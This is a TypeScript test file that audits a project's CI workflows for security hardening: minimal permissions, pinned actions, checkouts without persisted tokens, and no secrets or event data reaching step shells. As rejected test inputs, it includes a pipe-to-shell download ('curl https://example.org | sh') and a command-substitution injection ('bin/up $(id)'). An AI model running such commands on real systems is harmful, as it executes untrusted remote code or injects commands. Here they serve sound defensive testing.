import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { execa } from "execa";
import { load } from "js-yaml";
import { describe, expect, test } from "vitest";
import { checkout } from "../../cli/paths.ts";
import { type Step, workflows } from "./support.ts";

const steps = workflows.flatMap(({ file, workflow }) =>
  Object.entries(workflow.jobs).flatMap(([job, { steps }]) => steps.map((step) => ({ where: `${file} ${job}`, step }))),
);
const uses = steps.flatMap(({ where, step }) => (step.uses === undefined ? [] : [{ where, step, uses: step.uses }]));
const runs = steps.flatMap(({ where, step }) => (step.run === undefined ? [] : [{ where, step, run: step.run }]));

test("every workflow that is meant is there", () => {
  expect(workflows.map(({ file }) => file).sort()).toEqual([
    "deploy.yaml",
    "drift.yaml",
    "review-comment.yaml",
    "review.yaml",
    "test.yaml",
  ]);
});

describe.each(workflows)("$file", ({ text, workflow }) => {
  test("allows nothing that a job does not ask for, and writes only where that is its task", () => {
    expect(workflow.permissions).toEqual({});
    for (const [name, { permissions = {} }] of Object.entries(workflow.jobs)) {
      const written = Object.entries(permissions).flatMap(([what, how]) =>
        how === "read" ? [] : [`${name}: ${what}`],
      );
      expect(["comment: pull-requests", "tell: issues"]).toEqual(expect.arrayContaining(written));
    }
  });

  test("every job ends, and two of a kind are not at it at once", () => {
    for (const job of Object.values(workflow.jobs)) {
      expect(job["timeout-minutes"]).toBeLessThanOrEqual(90);
      if (job["runs-on"] !== "ubuntu-24.04") expect(job.environment).toMatch(/^(review|dev|prod)$/);
      if (job.environment === "dev" || job.environment === "prod") {
        expect(job.concurrency).toEqual({ group: `deploy-${job.environment}`, "cancel-in-progress": false });
      }
    }
  });

  test("what anybody can send never meets a secret, and nobody's code runs with the right to write", () => {
    expect(Object.keys(workflow.on)).not.toContain("pull_request_target");
    for (const job of Object.values(workflow.jobs)) {
      const secret = JSON.stringify(job).includes("secrets.");
      if (secret) expect(job.environment).toBeDefined();
      if (!("workflow_run" in workflow.on)) continue;
      expect(secret).toBe(false);
      for (const step of job.steps) if (step.uses?.includes("checkout")) expect(step.with?.ref).toBeUndefined();
    }
  });

  test("an action is pinned by its commit, and says which version that is", () => {
    const lines = text.split("\n").filter((line) => /^\s*(- )?uses:/.test(line));
    expect(lines.filter((line) => !/uses: actions\/[a-z-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$/.test(line))).toEqual([]);
  });
});

test("one action has one pin", () => {
  const pins = [...new Set(uses.map(({ uses }) => uses))];
  expect(new Set(pins.map((pin) => pin.split("@")[0])).size).toBe(pins.length);
});

test("a checkout keeps no token", () => {
  const checkouts = uses.filter(({ uses }) => uses.startsWith("actions/checkout@"));
  expect(checkouts.length).toBeGreaterThan(5);
  for (const { step } of checkouts) expect(step.with?.["persist-credentials"]).toBe(false);
});

/** What a line of a step's shell may be, besides a command of this checkout. */
const plain = [/^number=\$\(.ci\/pull-request\)$/, /^\[ -z "\$number" \] \|\| (?=\.ci\/)/];

/** The commands of the checkout that a step calls, with their words; throws for any other. */
function calls({ run = "" }: Step): string[][] {
  return run
    .trim()
    .split("\n")
    .map((line) => plain.reduce((rest, pattern) => rest.replace(pattern, ""), line.trim()))
    .filter((line) => line !== "")
    .map((line) => {
      if (!/^(bin|\.ci)\//.test(line) || /[;&|<>`]|\$\(/.test(line)) throw new Error(`no command of ours: ${line}`);
      return line.split(/\s+/);
    });
}

test("a step only calls what can be called here too", () => {
  expect(runs.length).toBeGreaterThan(8);
  for (const { step } of runs) {
    for (const [command = ""] of calls(step)) expect(existsSync(join(checkout, command)), command).toBe(true);
  }
  expect(() => calls({ run: "bin/up dev --yes\ncurl https://example.org | sh" })).toThrow("no command of ours: curl");
  expect(() => calls({ run: "bin/up $(id)" })).toThrow("no command of ours");
});

test("nothing of an event is put into a step's shell", () => {
  for (const { run } of runs) expect(run).not.toContain("${{");
});

test("a secret is in one step's environment, and that step prints nothing of it", () => {
  for (const { step } of steps) {
    if (JSON.stringify(step).includes("secrets.")) expect(step.run).toBe(".ci/secrets");
  }
});

/** The examples in docs/ci.md, by the file that their first line names. */
const examples = Object.fromEntries(
  [...readFileSync(join(checkout, "docs/ci.md"), "utf8").matchAll(/```yaml\n# (\S+)\n([\s\S]*?)```/g)].map(
    ([, file = "", text = ""]) => [file, load(text)],
  ),
);

/** Every line of shell in an example: GitLab's `script`, Woodpecker's `commands`, Forgejo's `run`. */
function shellOf(value: unknown, key = ""): string[] {
  if (typeof value === "string") return ["script", "commands", "run"].includes(key) ? [value] : [];
  if (Array.isArray(value)) return value.flatMap((item) => shellOf(item, key));
  return typeof value === "object" && value !== null
    ? Object.entries(value).flatMap(([name, item]) => shellOf(item, name))
    : [];
}

const exampleSteps = Object.values(examples)
  .flatMap((example) => shellOf(example))
  .filter((line) => line !== "grep -qx 0 drift/code")
  .map((run): Step => ({ run }));

test("the examples for other systems are whole, and call what is there", () => {
  expect(Object.keys(examples).sort()).toEqual([
    ".forgejo/workflows/deploy.yaml",
    ".forgejo/workflows/review.yaml",
    ".gitlab-ci.yml",
    ".woodpecker/deploy.yaml",
    ".woodpecker/review.yaml",
  ]);
  expect(exampleSteps.length).toBeGreaterThan(12);
  for (const step of exampleSteps) {
    for (const [command = ""] of calls(step)) expect(existsSync(join(checkout, command)), command).toBe(true);
  }
});

/** The commands in bin/ that steps call, with the options they are given, .ci/review's standing for bin/review's. */
const given = [...runs.map(({ step }) => step), ...exampleSteps].flatMap((step) =>
  calls(step).flatMap(([command = "", ...words]) => {
    const name = command === ".ci/review" ? "bin/review" : command;
    const options = words.filter((word) => word.startsWith("--"));
    return name.startsWith("bin/") ? [{ name, options }] : [];
  }),
);

test.each([...new Set(given.map(({ name }) => name))])("%s has the options that it is given", async (name) => {
  const { stdout } = await execa(join(checkout, name), ["--help"]);
  const options = given.filter((call) => call.name === name).flatMap((call) => call.options);
  if (name === "bin/review") options.push("--comment", "--report");
  for (const option of options) expect(stdout).toContain(`[${option}`);
});
